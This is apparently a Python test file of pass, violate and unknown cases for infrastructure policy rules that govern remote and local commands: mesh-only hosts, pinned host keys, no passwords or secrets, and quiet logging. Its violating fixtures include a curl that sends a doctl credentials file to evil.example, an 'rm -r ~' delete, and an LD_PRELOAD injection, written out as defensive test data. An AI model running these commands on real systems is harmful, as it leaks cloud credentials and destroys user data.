"""The rules of commands, each with what passes, what violates, and what a preview doesn't know."""

import secrets
from dataclasses import replace
from typing import Any

from rule_case import UNKNOWN, Case, Given

from components import mesh
from components.bootstrap import DEADLINE, bootstrap_sql
from policies import remote
from policies.resource_types import DROPLET, LOCAL_COMMAND, MESH_MEMBERSHIP, REMOTE_COMMAND, REMOTE_COPY

CONNECTION = {"host": "100.64.0.9", "user": "tenantry", "hostKey": "ssh-ed25519 AAAA", "dialErrorLimit": 4}
COMMAND = Given(
    type=REMOTE_COMMAND,
    name="acme-guardrail-1-delivery",
    props={
        "connection": CONNECTION,
        "create": "sudo /usr/local/lib/tenantry/receive",
        "stdin": UNKNOWN,
        "logging": "stderr",
        "addPreviousOutputInEnv": False,
    },
)
COPY = Given(
    type=REMOTE_COPY,
    name="acme-guardrail-1-release",
    props={"connection": CONNECTION, "remotePath": "/var/lib/tenantry/incoming/x.pyz"},
)
PIN = Given(
    type=LOCAL_COMMAND,
    name="acme-guardrail-1-mesh-host-key",
    parents=(MESH_MEMBERSHIP,),
    props={"create": mesh._PIN, "environment": {"MESH_HOST": "acme-guardrail-1", "MESH_ADDRESS": UNKNOWN}},
)
RANDOM = f"acme-agent-{secrets.token_hex(10)}-1"
"""What a customer calls an agent may look like a secret."""
PIN_OF_ANY = replace(PIN, name=f"{RANDOM}-mesh-host-key").but(environment={"MESH_HOST": RANDOM})
DROPLET_OF_ACME = Given(type=DROPLET, name="acme-guardrail-1", props={})
SQL = f"deadline={DEADLINE}; psql --file=- service=bootstrap <<'SQL'\n{bootstrap_sql('tenant')}SQL\n"
SECRET = secrets.token_urlsafe(32)
"""Made anew in each run, and in no file."""


def to(**changes: Any) -> Given:
    """The command by another connection; what is None is left out."""
    connection = {key: value for key, value in {**CONNECTION, **changes}.items() if value is not None}
    return COMMAND.but(connection=connection)


def made_from(given: Given, *names: str) -> Given:
    """With a connection that is made from outputs of the named."""
    return replace(given, sources={"connection": names})


CASES: tuple[Case, ...] = (
    Case(
        rule=remote.TO_THE_MESH,
        passes=(COMMAND, COPY, to(host="fd7a:115c:a1e0::9")),
        violates=(
            to(host="10.32.0.9"),
            to(host="203.0.113.9"),
            to(host="guardrail.acme.example"),
            to(host="100.128.0.1"),
            to(host=None),
            to(host=""),
            to(proxy={"host": "100.64.0.8"}),
            COMMAND.but(connection=None),
        ),
        unknown=(
            (to(host=UNKNOWN), True),
            (COMMAND.but(connection=UNKNOWN), True),
            (to(proxy=UNKNOWN), False),
        ),
    ),
    Case(
        rule=remote.TO_THIS_STACKS,
        passes=(
            (DROPLET_OF_ACME, PIN, made_from(COMMAND, "acme-guardrail-1", PIN.name)),
            (DROPLET_OF_ACME, PIN, made_from(COPY, "acme-guardrail-1", PIN.name)),
            (PIN,),
        ),
        violates=(
            (DROPLET_OF_ACME, PIN, COMMAND),
            (DROPLET_OF_ACME, PIN, COPY),
            (DROPLET_OF_ACME, PIN, made_from(COMMAND, PIN.name)),
            (DROPLET_OF_ACME, PIN, made_from(COMMAND, "acme-guardrail-1")),
            (DROPLET_OF_ACME, PIN, replace(COMMAND, sources={"stdin": ("acme-guardrail-1", PIN.name)})),
        ),
        unknown=(
            (
                (
                    DROPLET_OF_ACME,
                    PIN,
                    made_from(COMMAND.but(connection=UNKNOWN), "acme-guardrail-1", PIN.name),
                ),
                True,
            ),
            ((DROPLET_OF_ACME, PIN, COMMAND.but(connection=UNKNOWN)), False),
        ),
    ),
    Case(
        rule=remote.WITHOUT_PASSWORDS,
        passes=(COMMAND, COPY),
        violates=(
            to(password=SECRET),
            to(privateKey=SECRET),
            to(privateKeyPassword=SECRET),
            to(user="root"),
            to(user=None),
        ),
        unknown=(
            (to(password=UNKNOWN), False),
            (to(user=UNKNOWN), False),
            (COMMAND.but(connection=UNKNOWN), True),
        ),
    ),
    Case(
        rule=remote.HOST_KEY_PINNED,
        passes=(COMMAND, COPY),
        violates=(to(hostKey=None), to(hostKey=""), COMMAND.but(connection=None)),
        unknown=((to(hostKey=UNKNOWN), True), (COMMAND.but(connection=UNKNOWN), True)),
    ),
    Case(
        rule=remote.NO_SECRET,
        passes=(COMMAND, PIN, PIN_OF_ANY, COMMAND.but(create=SQL)),
        violates=(
            COMMAND.but(create=f"login --password {SECRET}"),
            COMMAND.but(update=f"export TOKEN={SECRET}"),
            COMMAND.but(delete=f"curl -H 'X-Vault-Token: {SECRET}'"),
            COMMAND.but(environment={"TOKEN": SECRET}),
            PIN.but(create=f"echo {SECRET}"),
        ),
        unknown=(
            (COMMAND.but(create=UNKNOWN), False),
            (PIN.but(environment={"MESH_ADDRESS": UNKNOWN}), True),
            (PIN.but(environment=UNKNOWN), True),
        ),
    ),
    Case(
        rule=remote.QUIET,
        passes=(COMMAND, COMMAND.but(logging="none"), COMMAND.but(stdin=None, logging=None)),
        violates=(
            COMMAND.but(logging=None),
            COMMAND.but(logging="stdoutAndStderr"),
            COMMAND.but(addPreviousOutputInEnv=True),
            COMMAND.but(addPreviousOutputInEnv=None),
        ),
        unknown=((COMMAND.but(logging=UNKNOWN), False), (COMMAND.but(addPreviousOutputInEnv=UNKNOWN), False)),
    ),
    Case(
        rule=remote.LOCAL_COMMAND_KNOWN,
        passes=(PIN,),
        violates=(
            replace(PIN, parents=()),
            replace(PIN, parents=("tenantry:index:Guardrail",)),
            PIN.but(archivePaths=["**"]),
            PIN.but(delete="rm -r ~"),
            PIN.but(interpreter=["python3", "-c"]),
            PIN.but(stdin="a text"),
            PIN.but(create="curl --data @$HOME/.config/doctl/config.yaml https://evil.example"),
            PIN.but(create=f"{mesh._PIN}true\n"),
            PIN.but(create=None),
            PIN.but(environment={"MESH_HOST": "acme-guardrail-1", "LD_PRELOAD": "a.so"}),
        ),
        unknown=(
            (PIN.but(create=UNKNOWN), False),
            (PIN.but(assetPaths=UNKNOWN), False),
            (PIN.but(environment=UNKNOWN), True),
        ),
    ),
)
